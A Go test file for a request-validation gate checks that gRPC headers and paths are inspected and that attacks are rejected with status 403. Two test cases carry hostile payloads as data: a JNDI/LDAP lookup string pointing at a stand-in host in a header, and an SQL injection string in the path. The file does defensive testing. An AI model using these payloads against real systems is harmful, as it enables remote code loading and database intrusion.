package validation

import (
	"testing"

	"github.com/tenward/tenward/event"
	"github.com/tenward/tenward/gate/gatetest"
)

// silent is a client that says nothing yet: who reads it waits for ever, and a test ends with an error.
type silent struct{ t *testing.T }

func (s silent) Read([]byte) (int, error) {
	s.t.Error("the body was read")
	return 0, nil
}

func TestTheHeadOfACallIsLookedAtAndItsMessagesPass(t *testing.T) {
	for _, tt := range []struct {
		name, path string
		headers    []string
		status     int
	}{
		{"an honest call", "/shop.Orders/Watch", nil, 0},
		{"one with metadata", "/shop.Orders/Watch", []string{"Authorization", "Bearer abc", "X-Trace", "7"}, 0},
		{"an attack in its metadata", "/shop.Orders/Watch", []string{"X-Api-Version", "${jndi:ldap://evil.test/a}"}, 403},
		{"an attack in its path", "/shop.Orders/Watch?q=1'+or+'1'='1", nil, 403},
	} {
		t.Run(tt.name, func(t *testing.T) {
			x := gatetest.Exchange(t, "POST", "https://notes.test"+tt.path, silent{t},
				append(tt.headers, "Content-Type", "application/grpc+proto", "Te", "trailers", "User-Agent", "grpc-go/1.85.0")...)
			x.RPC = true
			v, err := service(t, nil).request(t.Context(), x)
			if err != nil || v.Status != tt.status {
				t.Errorf("judged %d by %+v, want %d: %v", v.Status, v.Rules, tt.status, err)
			}
			if x.Request.Header.Get("Content-Type") == "" {
				t.Error("the request itself was changed")
			}
			if want := (event.Detail{Name: "validation.messages", Value: "unseen"}); len(x.Details) == 0 || x.Details[0] != want {
				t.Errorf("noted %+v", x.Details)
			}
		})
	}
}
